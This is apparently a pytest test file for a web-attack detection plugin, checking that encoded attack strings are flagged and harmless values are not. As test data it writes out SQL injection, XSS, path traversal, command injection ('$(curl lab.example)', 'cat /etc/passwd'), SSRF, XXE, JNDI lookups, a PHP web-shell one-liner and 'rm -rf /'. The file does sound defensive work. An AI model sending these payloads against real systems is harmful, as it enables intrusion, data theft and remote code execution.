"""Web attacks: each family is recognised through its encodings; ordinary values are left alone."""

import pytest

from schemas import Alert, Document, Field, LogWindow
from secassist.detectors._web.request import decode, looks_like_request, squeeze, values_of_request
from secassist.detectors.web_attack import PLUGIN


def request(target: str, body: str = "", agent: str = "Mozilla/5.0 (X11; Linux x86_64)") -> Alert:
    raw = f"GET {target} HTTP/1.1\nHost: shop.example\nUser-Agent: {agent}\nAccept: */*\n\n{body}"
    return Alert(source="json", fields=(Field(path="kind", value="http_request"), Field(path="raw", value=raw)))


def parameter(value: str) -> Alert:
    return Alert(source="json", fields=(Field(path="payload", value=value),))


def rules(subject) -> set[str]:
    return {signal.rule for signal in PLUGIN.detect(subject).signals}


@pytest.mark.parametrize(
    ("value", "rule"),
    [
        ("1' or '1'='1", "web:sqli"),
        ("1 UNION/**/SELECT user,password FROM users--", "web:sqli"),
        ("%2527%2520union%2520select%25201%252C2--", "web:sqli"),
        ("1;waitfor delay '0:0:5'--", "web:sqli"),
        ("<script>alert(1)</script>", "web:xss"),
        ("%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "web:xss"),
        ("javascript:alert(document.cookie)", "web:xss"),
        ("../../../../etc/passwd", "web:traversal"),
        ("..%c0%af..%c0%afetc/passwd", "web:traversal"),
        ("php://filter/convert.base64-encode/resource=index", "web:traversal"),
        ("127.0.0.1; cat /etc/passwd", "web:command"),
        ("$(curl lab.example)", "web:command"),
        ("http://169.254.169.254/latest/meta-data/", "web:ssrf"),
        ("<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "web:xxe"),
        ("${jndi:ldap://lab.example/a}", "web:jndi"),
        ("${${lower:j}ndi:ldap://lab.example/a}", "web:jndi"),
        ("{{7*7}}", "web:template"),
        ("<?php system($_GET['c']); ?>", "web:php"),
        ("(new java.lang.ProcessBuilder('id')).start()", "web:java"),
        ("require('child_process').exec('id')", "web:script"),
        ("a\r\nSet-Cookie: admin=1", "web:protocol"),
    ],
)
def test_each_family_is_recognised(value: str, rule: str):
    found = [s for s in PLUGIN.detect(parameter(value)).signals if s.rule == rule]
    assert found
    assert found[0].techniques
    assert found[0].decoded == decode(value)[:600]


@pytest.mark.parametrize(
    "value",
    [
        "O'Brien",
        "It's 5 o'clock, isn't it?",
        "Please select a colour from the list and update it where needed.",
        "2024-05-01 12:30",
        "rock & roll",
        "c/ david 169 6-h",
        "mango_rizzo1@premiostv.ky",
        "price < 100 and size > 4",
        "a <- b",
        "time warner",
        "the union of workers selected a new chair",
        "/images/logo.png",
        "C++ or C#?",
        "1,000.50",
        "who is there",
        'he said "no" and left',
    ],
)
def test_ordinary_values_are_left_alone(value: str):
    assert rules(parameter(value)) == set()
    assert rules(request("/search?q=" + value.replace(" ", "+").replace("&", "%26").replace("#", "%23"))) == set()


def test_scanners_probes_and_web_shells():
    assert "web:scanner" in rules(request("/", agent="sqlmap/1.5 (https://sqlmap.example)"))
    assert "web:sensitive-file" in rules(request("/.git/config"))
    assert "web:webshell" in rules(request("/uploads/c99.php?x=1"))
    assert rules(request("/", agent="curl/8.4.0")) == set()


def test_body_header_and_form_parts_are_looked_at_with_their_lines():
    (signal,) = [s for s in PLUGIN.detect(request("/", "name=a&id=1' or '1'='1")).signals if s.rule == "web:sqli"]
    assert signal.lines == (7,)
    form = '--b\nContent-Disposition: form-data; name="f"; filename="a.txt"\nContent-Type: text/plain\n\n{}\n--b--'
    assert rules(request("/", form.format("hello"))) == set()
    assert "web:xss" in rules(request("/", form.format("<script>alert(1)</script>")))
    assert "web:jndi" in rules(request("/", agent="${jndi:ldap://lab.example/a}"))


def test_access_log_lines_are_looked_at():
    lines = [
        '192.0.2.7 - - [01/May/2024:10:00:00 +0000] "GET /index.html HTTP/1.1" 200 10 "-" "Mozilla/5.0 (X11)"',
        '192.0.2.7 - - [01/May/2024:10:00:01 +0000] "GET /a?f=../../../etc/passwd HTTP/1.1" 404 10 "-" "Nikto/2.1"',
    ]
    found = {s.rule: s.lines for s in PLUGIN.detect(LogWindow(source="log", body="\n".join(lines))).signals}
    assert found == {"web:traversal": (2,), "web:scanner": (2,)}


def test_prose_and_code_outside_requests_are_not_its_business():
    text = "SELECT * FROM users WHERE name = 'x' OR '1'='1';\n<script>alert(1)</script>\nrm -rf / ; cat /etc/passwd"
    assert rules(Document(source="text", body=text)) == set()
    assert rules(Alert(source="json", fields=(Field(path="command", value="cat /etc/passwd; id"),))) == set()


def test_request_shape():
    assert looks_like_request("POST /a HTTP/1.1\nHost: x")
    assert not looks_like_request("GET out of here")
    values = [(v.where, v.text) for v in values_of_request('GET /p?a=1&b=2 HTTP/1.1\nCookie: c=3\n\n{"k":"v"}')]
    assert values[:4] == [("path", "/p"), ("query", "1"), ("query", "2"), ("header:cookie", "c=3")]
    assert ("body", "v") in values


def test_decoding_is_bounded():
    nested = "%2527"
    for _ in range(6):
        nested = nested.replace("%", "%25")
    assert "%" in decode(nested)
    assert decode("%27") == "'"
    assert squeeze("union/*x*/select") == "union select"
